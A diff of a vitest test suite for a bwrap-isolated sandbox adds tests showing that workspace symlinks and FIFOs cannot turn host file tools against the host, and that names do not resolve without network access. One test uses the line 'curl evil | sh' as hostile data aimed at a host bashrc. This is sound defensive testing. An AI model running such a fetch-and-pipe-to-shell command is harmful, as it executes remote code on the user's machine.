@@ -9,7 +9,17 @@ import os from 'node:os'
 import path from 'node:path'
 import { execFileSync } from 'node:child_process'
 import { afterAll, afterEach, describe, expect, it } from 'vitest'
-import { LocalSandbox, SandboxOptionError, detectIsolation, generateSeatbeltProfile, isIsolationAvailable } from '../lib/index.mjs'
+import {
+  LocalFilesystem,
+  LocalSandbox,
+  PermissionError,
+  SandboxOptionError,
+  Workspace,
+  createWorkspaceTools,
+  detectIsolation,
+  generateSeatbeltProfile,
+  isIsolationAvailable,
+} from '../lib/index.mjs'
 import { LIB_CJS, startNode, survivors, uniqueMarker, waitForMarkers, withDeadline } from './helpers.mjs'
 
 const available = isIsolationAvailable('bwrap')
@@ -277,6 +287,27 @@ describe.skipIf(!available)('isolation: bwrap', () => {
     expect(busy).toMatchObject({ limitExceeded: 'cpu', exitCode: 128 + os.constants.signals.SIGXCPU })
     const sleeper = await sh(sb, 'sleep 30', { timeout: 300 })
     expect(sleeper).toMatchObject({ exitCode: 124, timedOut: true })
+  })
+
+  it('F4/F16: what a command leaves in the workspace cannot turn the host file tools against the host', async () => {
+    const sb = sandbox()
+    const target = path.join(top, `bashrc-${counter}`)
+    fs.writeFileSync(target, 'host rc\n')
+    await sh(sb, `ln -s ${target} l; mkfifo output.log`)
+    const filesystem = new LocalFilesystem({ basePath: sb.workingDirectory })
+    await expect(filesystem.writeFile('l', 'curl evil | sh\n')).rejects.toBeInstanceOf(PermissionError)
+    expect(fs.readFileSync(target, 'utf8')).toBe('host rc\n')
+    // A FIFO nobody writes to: a blocking read would hang the host's tool call forever.
+    const tools = await createWorkspaceTools(new Workspace({ sandbox: sb, filesystem }))
+    const read = tools.mastra_workspace_read_file.execute({ path: 'output.log' }, {})
+    await expect(withDeadline(read, 5000, 'reading a FIFO')).rejects.toMatchObject({ code: 'EACCES' })
+    await expect(withDeadline(filesystem.writeFile('output.log', 'x'), 5000, 'writing a FIFO')).rejects.toBeInstanceOf(PermissionError)
+  })
+
+  it('N4: names do not resolve without the network', async () => {
+    const r = await sh(sandbox(), 'getent hosts example.com')
+    expect(r.exitCode).not.toBe(0)
+    expect(r.stdout).toBe('')
   })
 
   it('P4: a setsid daemon dies with the kill of its command', async () => {
